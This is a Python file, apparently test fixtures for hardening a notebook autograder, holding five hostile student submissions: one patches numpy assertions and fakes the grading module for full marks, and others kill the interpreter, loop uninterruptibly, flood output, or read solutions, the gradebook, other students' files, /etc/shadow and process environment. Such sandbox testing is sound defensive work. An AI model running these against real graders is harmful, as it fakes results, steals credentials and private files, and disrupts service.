"""Code of the hostile students in the sample class. Run it only in the sandbox."""

# Earns all points in a grader that shares its interpreter with the student.
PATCHED = """
import builtins, sys, types, ast
import numpy as np
for name in dir(np.testing):
    if name.startswith("assert"):
        setattr(np.testing, name, lambda *a, **k: None)
fake = types.ModuleType("autograder.checks")
fake.judge = lambda grade_id, names: 4.0
sys.modules["autograder"] = sys.modules["autograder.checks"] = fake
np.allclose = np.isclose = lambda *a, **k: True
ast.NodeTransformer.visit_Assert = lambda self, node: ast.Pass()
get_ipython().ast_transformers.append(ast.NodeTransformer())
"""

# Exits the interpreter: stock nbgrader loses the whole submission.
EXIT = """
import os
os._exit(0)
"""

# Runs for an hour and ignores interrupts.
LOOP = """
import time
until = time.time() + 3600
while time.time() < until:
    try:
        while True:
            pass
    except BaseException:
        pass
"""

# Searches for the answers, the grades, and other students' files.
READER = """
import glob, os, subprocess
found = []
for depth in range(5):
    for name in ("solutions", "gradebook.db", "submitted", "results"):
        found += glob.glob("/*" * depth + "/" + name)
for name in ("/etc/passwd", "/etc/shadow", "/proc/1/environ"):
    try:
        found.append(open(name).read())
    except OSError:
        pass
try:
    import solutions
    from solutions import *
except ImportError:
    pass
print(found)
"""

# Prints more output than memory can hold.
FLOOD = """
for _ in range(3_000):
    print("x" * 50_000)
"""
